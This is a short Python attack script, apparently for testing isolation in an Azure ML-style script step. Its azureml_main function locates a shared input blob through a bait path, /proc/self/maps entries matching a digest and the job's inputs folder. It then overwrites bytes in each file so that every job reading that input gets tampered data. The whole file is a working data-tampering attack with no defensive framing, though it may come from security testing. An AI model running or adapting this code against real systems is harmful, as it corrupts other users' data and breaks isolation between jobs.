"""Finds where its input lies among the blobs, and changes it there, for every job that reads it."""

import os

from attack import BAIT, attack, every, job_folder


def spoil(path):
    with open(path, "r+b") as stream:
        stream.seek(100)
        stream.write(b"hostile")
    return f"wrote into {path}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    places = [BAIT["input_path"]]
    with open("/proc/self/maps") as maps:
        places += sorted({line.split()[5] for line in maps if BAIT["input_digest"] in line})
    folder = os.path.join(job_folder(), "inputs")
    places += [os.path.join(folder, name) for name in os.listdir(folder)]
    return every(spoil, places)
